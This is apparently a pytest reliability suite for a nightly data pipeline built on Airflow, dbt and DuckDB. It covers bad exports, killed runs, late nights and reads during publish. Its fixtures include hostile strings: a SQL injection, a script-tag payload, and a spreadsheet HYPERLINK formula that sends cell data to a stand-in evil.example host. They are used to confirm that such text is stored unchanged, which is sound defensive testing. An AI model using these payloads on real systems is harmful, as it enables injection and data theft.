"""Reliability through the real DAG: bad exports, crashes, late nights, reads during publish.

One small generated export (150 freelancers, 60 clients, seed 7): night 1 is run once into a
baseline home; every case copies that home (shutil.copytree) and runs night 2 in some broken way.
Night 2 is made messy on purpose: rows the loader must quarantine (bad enum, bad IP, rating 7),
an accounts file with a byte-order mark, CRLF line ends, an extra column, Korean, Cyrillic and
emoji names, and hostile text (SQL, <script>, =HYPERLINK) in names and message bodies.

The promise checked after every case: the serving database is either the previous night's, byte
for byte (sha256), or the new night's with rows_loaded + rows_quarantined == the manifest's rows.
docs/reliability.md lists every case and its outcome.
"""

from __future__ import annotations

import contextlib
import csv
import gzip
import hashlib
import json
import os
import shutil
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from datetime import date
from pathlib import Path

import duckdb
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from export_factory import write_csv, write_manifest

from itw_radar.contract import TABLES
from itw_radar.orchestration import NightResult, airflow_env, run_nights
from itw_radar.paths import PAUSE_ENV, PAUSE_FILE_ENV, Home
from itw_radar.publishing import check_serving, publish

pytestmark = [pytest.mark.slow, pytest.mark.timeout(1800)]

N1, N2 = date(2026, 11, 1), date(2026, 11, 2)
NAMES = ["김정은 테스트", "Иван Петров", "Zoë 🚀 Ng"]
HOSTILE = ["'; DROP TABLE accounts; --", "<script>alert('x')</script>",
           '=HYPERLINK("http://evil.example/?q="&A1,"click")']
# Provenance columns that differ between two runs of the same night.
VOLATILE = {"pipeline_runs": {"started_at", "finished_at", "summary"}, "load_files": {"load_id"}}


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _read(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        r = csv.DictReader(f)
        return list(r.fieldnames or []), list(r)


def _make_messy(folder: Path) -> dict[str, int]:
    """Night 2 with quarantinable rows, BOM/CRLF/extra column/unicode and hostile text."""
    cols, accounts = _read(folder / "accounts.csv")
    template = accounts[0]
    for i, name in enumerate(NAMES + HOSTILE):
        accounts.append(dict(template, account_id=f"acc_rel_{i}", display_name=name,
                             favourite_colour="blue"))
    write_csv(folder / "accounts.csv", accounts, [*cols, "favourite_colour"])
    text = (folder / "accounts.csv").read_text(encoding="utf-8")
    (folder / "accounts.csv").write_bytes(b"\xef\xbb\xbf" + text.replace("\n", "\r\n").encode())

    cols, messages = _read(folder / "messages.csv")
    for i, body in enumerate(HOSTILE):
        messages.append(dict(messages[0], message_id=f"m_rel_{i}", body=body))
    write_csv(folder / "messages.csv", messages, cols)

    cols, logins = _read(folder / "logins.csv")
    logins.append(dict(logins[0], login_id="l_rel_enum", ip_kind="satellite"))
    logins.append(dict(logins[0], login_id="l_rel_ip", ip="999.1.1.1"))
    write_csv(folder / "logins.csv", logins, cols)
    cols, reviews = _read(folder / "reviews.csv")
    reviews.append(dict(reviews[0], review_id="r_rel_7", rating="7"))
    write_csv(folder / "reviews.csv", reviews, cols)
    mode = json.loads((folder / "manifest.json").read_text())["mode"]
    return {n: f["rows"] for n, f in write_manifest(folder, N2, mode)["files"].items()}


# ------------------------------------------------------------------------------ fixtures


@pytest.fixture(scope="module")
def exports(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from itw_radar.generator import generate

    out = tmp_path_factory.mktemp("rel") / "exports"
    generate(out, N1, 2, freelancers=150, clients=60, seed=7)
    _make_messy(out / N2.isoformat())
    return out


def _run(home: Home, exports: Path, night: date) -> list[NightResult]:
    return run_nights(home, exports, night, night, echo=lambda _line: None)


@pytest.fixture(scope="module")
def work(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The one path every DAG run of this module uses as its home.

    A home's Airflow metadata registers the serving Asset with the home's path in its URI, so a
    home copied to another path fails at publish ("inactive assets"); cases therefore restore
    a saved home into this same path instead of running in copies elsewhere.
    """
    return tmp_path_factory.mktemp("work") / "home"


def _restore(saved: Home, work: Path) -> Home:
    if work.exists():
        shutil.rmtree(work)
    shutil.copytree(saved.root, work, symlinks=True)
    return Home.resolve(work)


def _save(home: Home, to: Path) -> Home:
    shutil.move(home.root, to / "home")
    return Home.resolve(to / "home")


@pytest.fixture(scope="module")
def baseline(exports: Path, work: Path, tmp_path_factory: pytest.TempPathFactory) -> Home:
    """Night 1 published (saved copy): every case starts from this home."""
    home = Home.resolve(work)
    assert [r.status for r in _run(home, exports, N1)] == ["success"]
    return _save(home, tmp_path_factory.mktemp("baseline"))


@pytest.fixture(scope="module")
def reference(baseline: Home, exports: Path, work: Path,
              tmp_path_factory: pytest.TempPathFactory) -> Home:
    """Night 2 (messy but valid) run once, uninterrupted: what every re-run must reproduce."""
    home = _restore(baseline, work)
    results = _run(home, exports, N2)
    assert [r.status for r in results] == ["success"], results[-1].error
    return _save(home, tmp_path_factory.mktemp("reference"))


def _rows(path: Path, sql: str, params: list | None = None) -> list[tuple]:
    con = duckdb.connect(str(path), read_only=True)
    try:
        return con.execute(sql, params or []).fetchall()
    finally:
        con.close()


def marts(path: Path) -> dict[str, list[tuple]]:
    """Every serving table, volatile provenance columns left out, rows in order."""
    con = duckdb.connect(str(path), read_only=True)
    try:
        out = {}
        for (table,) in con.execute("SELECT table_name FROM information_schema.tables "
                                    "WHERE table_schema = 'main' ORDER BY 1").fetchall():
            cols = [c for (c,) in con.execute(
                "SELECT column_name FROM information_schema.columns WHERE table_schema = 'main' "
                "AND table_name = ? ORDER BY ordinal_position", [table]).fetchall()
                if c not in VOLATILE.get(table, set())]
            select = ", ".join(f'"{c}"' for c in cols)
            out[table] = con.execute(f'SELECT {select} FROM "{table}" ORDER BY ALL').fetchall()
        return out
    finally:
        con.close()


# ------------------------------------------------------------------------------ bad exports


def _manifest_rows(folder: Path) -> int:
    return sum(f["rows"] for f in json.loads((folder / "manifest.json").read_text())
               ["files"].values())


def test_messy_night_publishes_every_row_loaded_or_quarantined(reference: Home,
                                                                 exports: Path) -> None:
    folder = exports / N2.isoformat()
    runs = _rows(reference.serving, "SELECT status, rows_loaded, rows_quarantined "
                 "FROM pipeline_runs WHERE export_date = ?", [N2])
    assert runs and runs[0][0] == "success"
    assert runs[0][1] + runs[0][2] == _manifest_rows(folder)
    assert runs[0][2] == 3
    files = _rows(reference.serving, "SELECT file_name, rows_expected, rows_loaded, "
                  "rows_quarantined FROM load_files WHERE export_date = ?", [N2])
    manifest = json.loads((folder / "manifest.json").read_text())["files"]
    assert {f[0] for f in files} == set(manifest)
    for name, expected, loaded, quarantined in files:
        assert expected == manifest[name]["rows"] == loaded + quarantined, name
    rules = _rows(reference.warehouse, "SELECT table_name, column_name, rule FROM raw.quarantine "
                  "WHERE export_date = ? ORDER BY ALL", [N2])
    assert rules == [("logins", "ip", "format"), ("logins", "ip_kind", "enum"),
                     ("reviews", "rating", "range")]
    assert check_serving(reference.serving) == []


def test_unicode_and_hostile_text_flow_through_load_and_dbt_unchanged(reference: Home) -> None:
    want = NAMES + HOSTILE
    ids = [f"acc_rel_{i}" for i in range(len(want))]
    for db, table in ((reference.warehouse, "raw.accounts"),
                      (reference.serving, "account_profile")):
        got = dict(_rows(db, f"SELECT account_id, display_name FROM {table} "
                         "WHERE account_id LIKE 'acc_rel_%'"))
        assert [got.get(i) for i in ids] == want, (db, table)
    bodies = dict(_rows(reference.warehouse, "SELECT message_id, body FROM staging.stg_messages "
                        "WHERE message_id LIKE 'm_rel_%'"))
    assert [bodies.get(f"m_rel_{i}") for i in range(3)] == HOSTILE
    # The statement in the name was stored, not run: the tables are all there.
    assert _rows(reference.serving, "SELECT count(*) FROM account_profile")[0][0] > 200


def test_every_file_under_home_is_owner_only_after_a_night(reference: Home) -> None:
    # cosmos copies dbt's own metadata (manifest.json, partial_parse.msgpack: the dbt project,
    # no exported data) into its cache keeping the repository's file modes; the folder is 0700.
    cache = reference.airflow / "cosmos"
    assert not cache.exists() or cache.stat().st_mode & 0o077 == 0
    loose = [str(p) for p in [reference.root, *reference.root.rglob("*")]
             if not p.is_symlink() and p.stat().st_mode & 0o077
             and not (cache in p.parents and p.name in ("manifest.json",
                                                        "partial_parse.msgpack"))]
    assert loose == []


def _checksum_off(folder: Path) -> None:
    with (folder / "logins.csv").open("a", encoding="utf-8") as f:
        f.write(f"l_extra,acc_00000001,{N2}T05:00:00Z,203.0.113.9,US,64500,residential,d,ua,"
                "true\n")


def _missing_column(folder: Path) -> None:
    cols, rows = _read(folder / "reviews.csv")
    write_csv(folder / "reviews.csv", rows, [c for c in cols if c != "rating"])
    write_manifest(folder, N2)


def _parquet_wrong_type(folder: Path) -> None:
    cols, rows = _read(folder / "reviews.csv")
    (folder / "reviews.csv").unlink()
    pq.write_table(pa.table({c: [r[c] for r in rows] for c in TABLES["reviews"].column_names}),
                   folder / "reviews.parquet")  # every column a string: rating is not
    write_manifest(folder, N2)


def _corrupt_gzip(folder: Path) -> None:
    data = gzip.compress((folder / "logins.csv").read_bytes())
    rows = json.loads((folder / "manifest.json").read_text())["files"]["logins.csv"]["rows"]
    (folder / "logins.csv").unlink()
    (folder / "logins.csv.gz").write_bytes(data[: len(data) // 2])
    write_manifest(folder, N2, rows={"logins.csv.gz": rows})


def _unknown_version(folder: Path) -> None:
    m = json.loads((folder / "manifest.json").read_text())
    m["contract_version"] = "9.9"
    (folder / "manifest.json").write_text(json.dumps(m))


BAD_EXPORTS: dict[str, tuple[Callable[[Path], None], str]] = {
    "checksum off": (_checksum_off, "file logins.csv: SHA-256 differs"),
    "missing column": (_missing_column, "column rating: required column missing"),
    "parquet wrong type": (_parquet_wrong_type, "column rating: Parquet type VARCHAR"),
    "corrupt gzip": (_corrupt_gzip, "file logins.csv.gz: unreadable"),
    "unknown contract version": (_unknown_version, "contract_version '9.9' is not supported"),
}


@pytest.mark.parametrize("case", list(BAD_EXPORTS))
def test_bad_export_leaves_the_previous_night_byte_identical(
        case: str, baseline: Home, exports: Path, work: Path, tmp_path: Path) -> None:
    home = _restore(baseline, work)
    before = sha(home.serving)
    bad = tmp_path / "exports"
    shutil.copytree(exports / N2.isoformat(), bad / N2.isoformat())
    breaker, message = BAD_EXPORTS[case]
    breaker(bad / N2.isoformat())
    results = _run(home, bad, N2)
    assert [(r.export_date, r.status) for r in results] == [(N2, "failed")]
    assert message in (results[0].error or ""), results[0].error
    assert "\n" not in (results[0].error or "")
    assert sha(home.serving) == before
    assert _rows(home.warehouse, "SELECT count(*) FROM raw.load_files WHERE export_date = ?",
                 [N2]) == [(0,)]


# ------------------------------------------------------------------------------ crashes


def _child(home: Home, exports: Path, night: date, log: Path,
           env_extra: dict[str, str]) -> subprocess.Popen:
    """The process `itw-radar run` starts for the nights, in its own process group."""
    env = airflow_env(home, exports)
    env.update(env_extra)
    cmd = [sys.executable, "-m", "itw_radar.orchestration", "nights", "--home", str(home.root),
           "--exports", str(exports), "--from", night.isoformat(), "--to", night.isoformat()]
    with log.open("w") as out:
        return subprocess.Popen(cmd, env=env, stdout=out, stderr=subprocess.STDOUT,
                                cwd=str(home.root), start_new_session=True)


def _newer_files(folder: Path, since: float) -> int:
    if not folder.is_dir():
        return 0
    return sum(1 for p in folder.rglob("*") if p.is_file() and p.stat().st_mtime > since)


def _descendants(pid: int) -> set[int]:
    children: dict[int, list[int]] = {}
    for d in Path("/proc").iterdir():
        if d.name.isdigit():
            try:
                ppid = int((d / "stat").read_text().rsplit(")", 1)[1].split()[1])
            except (OSError, IndexError, ValueError):
                continue
            children.setdefault(ppid, []).append(int(d.name))
    out: set[int] = set()
    todo = [pid]
    while todo:
        for c in children.get(todo.pop(), []):
            if c not in out:
                out.add(c)
                todo.append(c)
    return out


def _kill_tree(proc: subprocess.Popen) -> None:
    """SIGKILL the night's process and every process it started, even in other sessions.

    Airflow task runners and cosmos' dbt run in sessions of their own: a kill of the process
    group alone leaves them running (and holding the warehouse lock) until they finish.
    """
    pids = {proc.pid}
    for _ in range(3):  # freeze the tree first, so nothing new starts while it is killed
        pids |= _descendants(proc.pid)
        for p in pids:
            with contextlib.suppress(ProcessLookupError):
                os.kill(p, signal.SIGSTOP)
    pids |= _descendants(proc.pid)
    for p in pids:
        with contextlib.suppress(ProcessLookupError):
            os.kill(p, signal.SIGKILL)
    proc.wait()
    for p in pids - {proc.pid}:  # orphans are reaped by init
        deadline = time.monotonic() + 60
        while Path(f"/proc/{p}").exists() and time.monotonic() < deadline:
            try:
                if (Path(f"/proc/{p}") / "stat").read_text().rsplit(")", 1)[1].split()[0] == "Z":
                    break
            except OSError:
                break
            time.sleep(0.1)


def _kill_when(proc: subprocess.Popen, ready: Callable[[], bool], what: str, log: Path) -> None:
    """SIGKILL the whole process group once `ready()`; a hang guard, not a timing assertion."""
    deadline = time.monotonic() + 600
    while not ready():
        if proc.poll() is not None:
            pytest.fail(f"the night ended (code {proc.returncode}) before {what}; see "
                        f"{log}:\n{log.read_text()[-3000:]}")
        if time.monotonic() > deadline:
            _kill_tree(proc)
            pytest.fail(f"never reached {what}; see {log}")
        time.sleep(0.2)
    _kill_tree(proc)


def _assert_still_previous_night(home: Home, serving_sha: str) -> None:
    assert sha(home.serving) == serving_sha
    assert check_serving(home.serving) == []
    assert _rows(home.serving, "SELECT max(as_of_date) FROM account_risk") == [(N1,)]
    # The warehouse opens for writing after the kill (DuckDB replays or drops its WAL).
    con = duckdb.connect(str(home.warehouse))
    try:
        assert con.execute("SELECT count(*) FROM raw.load_log WHERE export_date = ?",
                           [N1]).fetchone()[0] > 0
    finally:
        con.close()


def test_killed_nights_keep_the_previous_night_and_a_rerun_matches_an_uninterrupted_run(
        baseline: Home, reference: Home, exports: Path, work: Path, tmp_path: Path) -> None:
    home = _restore(baseline, work)
    before = sha(home.serving)
    marker = tmp_path / "paused"
    gx_night = home.gx / "uncommitted" / "validations"
    dbt_compiled = home.airflow / "dbt_target"

    stages: list[tuple[str, dict[str, str], Callable[[float], bool]]] = [
        # inside the load transaction, after the first file's rows were inserted
        ("load", {PAUSE_ENV: "load"}, lambda t0: marker.exists()),
        # Great Expectations has written results for some tables of the night
        ("validate", {}, lambda t0: _newer_files(gx_night, t0) >= 3),
        # dbt build has compiled and run a number of models, not all
        ("dbt", {}, lambda t0: _newer_files(dbt_compiled / "run", t0) >= 10),
        # the new serving file is complete, os.replace not yet done
        ("publish", {PAUSE_ENV: "publish"}, lambda t0: marker.exists()),
    ]
    for stage, extra, ready in stages:
        marker.unlink(missing_ok=True)
        log = tmp_path / f"killed-at-{stage}.log"
        t0 = time.time()
        proc = _child(home, exports, N2, log, {**extra, PAUSE_FILE_ENV: str(marker)})
        _kill_when(proc, lambda t0=t0, ready=ready: ready(t0), stage, log)
        _assert_still_previous_night(home, before)

    leftovers = [p.name for p in home.serving_dir.iterdir() if p.name != "radar.duckdb"]
    assert leftovers, "the publish kill should have left a half-published temporary file"
    results = _run(home, exports, N2)
    assert [r.status for r in results] == ["success"], results[-1].error
    assert [p.name for p in home.serving_dir.iterdir()] == ["radar.duckdb"]
    got, want = marts(home.serving), marts(reference.serving)
    for table in ("account_risk", "account_indicator_hits"):
        assert got[table] == want[table], table
    assert got == want, {t for t in want if got.get(t) != want[t]}


# ------------------------------------------------------------------------------ late nights


def test_a_night_older_than_the_published_one_is_refused(reference: Home, exports: Path,
                                                         work: Path) -> None:
    home = _restore(reference, work)
    before = sha(home.serving)
    results = _run(home, exports, N1)  # re-delivered / late: night 2 is already published
    assert [(r.export_date, r.status) for r in results] == [(N1, "failed")]
    error = results[0].error or ""
    assert "refused" in error and str(N2) in error and "ITW_RADAR_REPROCESS=1" in error, error
    assert sha(home.serving) == before


# ------------------------------------------------------------------------------ reads


def test_dashboard_reads_never_error_while_nights_are_published(reference: Home,
                                                                tmp_path: Path) -> None:
    sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
    from dashboard import data

    home = _restore(reference, tmp_path / "home")
    stop = threading.Event()
    errors: list[BaseException] = []
    reads = {"ok": 0, "replaced": 0}

    def reader() -> None:
        while not stop.is_set():
            snap = data.snapshot(home)
            assert snap is not None
            try:
                n = data._fetch(snap, "SELECT count(*) AS n FROM account_risk "
                                "WHERE risk_tier IN (?, ?, ?, ?)",
                                ("high", "medium", "low", "none"))["n"][0]
                assert n > 200
                reads["ok"] += 1
            except data.ServingReplaced:
                reads["replaced"] += 1  # the app reruns on the new file
            except BaseException as exc:  # noqa: BLE001 - collected and asserted below
                errors.append(exc)
                return

    threads = [threading.Thread(target=reader) for _ in range(2)]
    for t in threads:
        t.start()
    try:
        for _ in range(6):
            publish(home, N2)
    finally:
        stop.set()
        for t in threads:
            t.join()
    assert errors == []
    assert reads["ok"] > 0
    assert check_serving(home.serving) == []
